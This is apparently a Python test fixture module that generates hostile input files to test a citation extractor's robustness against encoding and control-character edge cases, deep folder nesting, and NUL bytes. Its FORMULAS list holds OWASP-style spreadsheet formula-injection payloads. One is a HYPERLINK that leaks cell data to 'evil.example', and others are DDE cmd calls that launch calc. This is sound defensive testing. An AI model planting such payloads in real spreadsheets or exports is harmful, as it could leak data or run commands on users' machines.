"""A corpus of hostile inputs, made on the fly (tests/test_hostile.py, benchmarks/bench_hostile.py).

Each maker writes one kind of file the robustness issue names; ``write_corpus``
writes them all beside the seed articles. Texts are built from plain sentences
so that each file is still an article the extractor finds citations in.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

from conftest import copy_seeds

BODY = ("Officials met on Tuesday to discuss the budget.\n\n"
        "According to Reuters, the talks collapsed after midnight.\n\n"
        "The Guardian reported that a leaked memo showed deep cuts.")
# Cells a spreadsheet would run: OWASP's examples, with an article's title, publisher and URL as the carrier.
FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1")


def page(title: str, site: str, body: str = BODY) -> str:
    paragraphs = "".join(f"<p>{p}</p>" for p in body.split("\n\n"))
    return (f'<!doctype html><html><head><title>{title}</title><meta property="og:site_name" content="{site}">'
            f"</head><body><article><h1>{title}</h1>{paragraphs}</article></body></html>")


def write_controls(root: Path) -> None:
    """Control characters in a title, publisher and URL: a form feed from a PDF conversion, an ESC, U+0001."""
    root.mkdir(parents=True, exist_ok=True)
    (root / "formfeed.html").write_text(page("Budget talks\x0ccollapse", "Daily\x1b Courier"), encoding="utf-8")
    (root / "pdf.txt").write_text("Budget talks collapse\n\n" + BODY.replace("\n\n", "\n\n\x0c"), encoding="utf-8")
    record = {"title": "Talks \u0001collapse", "publisher": "Wire\u0001 Service", "url": "https://wire.example/\u0001a",
              "text": BODY}
    (root / "controls.jsonl").write_text(json.dumps(record) + "\n", encoding="utf-8")


def write_utf32(root: Path) -> None:
    """A UTF-32 LE file with its BOM (read as UTF-16 before: a NUL between every letter)."""
    root.mkdir(parents=True, exist_ok=True)
    (root / "utf32.txt").write_bytes(("Budget talks collapse\n\n" + BODY).encode("utf-32"))


def write_surrogates(root: Path) -> None:
    """Lone surrogates in a JSONL title, publisher and URL (JSON's "\\ud800")."""
    root.mkdir(parents=True, exist_ok=True)
    record = {"title": "Talks \ud800collapse", "publisher": "Wire \udfff", "url": "https://wire.example/\ud800",
              "text": BODY}
    (root / "surrogates.jsonl").write_text(json.dumps(record) + "\n", encoding="utf-8")


def write_latin1_name(root: Path) -> Path:
    """A file whose name is not UTF-8 (Latin-1 "café.txt")."""
    root.mkdir(parents=True, exist_ok=True)
    path = os.fsencode(root) + b"/caf\xe9.txt"
    with open(path, "w", encoding="utf-8") as fh:
        fh.write("Budget talks collapse\n\n" + BODY)
    return Path(os.fsdecode(path))


def write_deep(root: Path, depth: int = 1100) -> str:
    """One article ``depth`` folders down; returns its id."""
    folder = os.fspath(root)
    os.makedirs(folder, exist_ok=True)
    for _ in range(depth):  # one level at a time: Path.mkdir(parents=True) recurses as deep as the path
        folder += "/d"
        os.mkdir(folder)
    with open(folder + "/deep.txt", "w", encoding="utf-8") as fh:
        fh.write("Deep article\n\n" + BODY)
    return "/".join(["d"] * depth) + "/deep.txt"


def remove_deep(root: Path) -> None:
    """Remove what ``write_deep`` made, deepest first (shutil.rmtree, and pytest's clean-up of old
    temporary folders with it, recurses as deep as the tree and overflows)."""
    folder = os.fspath(root)
    chain = []
    while os.path.isdir(folder + "/d"):
        folder += "/d"
        chain.append(folder)
    for path in reversed(chain):
        for name in os.listdir(path):
            if not os.path.isdir(os.path.join(path, name)):
                os.remove(os.path.join(path, name))
        os.rmdir(path)


def write_late_nul(root: Path) -> None:
    """NUL bytes after the first 4 KB (the binary check reads 4 KB)."""
    root.mkdir(parents=True, exist_ok=True)
    filler = "\n\n".join(f"Paragraph {n} of the filler says nothing at all." for n in range(120))
    (root / "latenul.txt").write_bytes(("Late NUL bytes\n\n" + filler + "\n\nAccording to Reuters, the \x00\x00talks "
                                        "collapsed.\x00\n").encode("utf-8"))


def write_formulas(root: Path) -> None:
    """Article-controlled cells that spreadsheets take for formulas."""
    root.mkdir(parents=True, exist_ok=True)
    lines = [json.dumps({"title": f, "publisher": f, "url": f, "text": BODY}) for f in FORMULAS]
    (root / "formulas.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")


def write_line_separators(root: Path) -> None:
    """Raw U+2028, U+2029 and U+0085 inside JSON strings: legal JSON, and line breaks to ``str.splitlines``."""
    root.mkdir(parents=True, exist_ok=True)
    records = [{"title": f"Separated {n}", "text": BODY.replace("the talks", f"the{sep}talks")}
               for n, sep in enumerate(("\u2028", "\u2029", "\x85"), start=1)]
    (root / "separators.jsonl").write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records),
                                           encoding="utf-8")


def write_corpus(root: Path) -> Path:
    """The seeds and every hostile file above, in one folder."""
    copy_seeds(root)
    write_controls(root / "controls")
    write_utf32(root / "controls")
    write_surrogates(root / "surrogates")
    write_latin1_name(root / "names")
    write_deep(root / "deep", depth=200)
    write_late_nul(root / "nul")
    write_formulas(root / "formulas")
    write_line_separators(root / "separators")
    return root
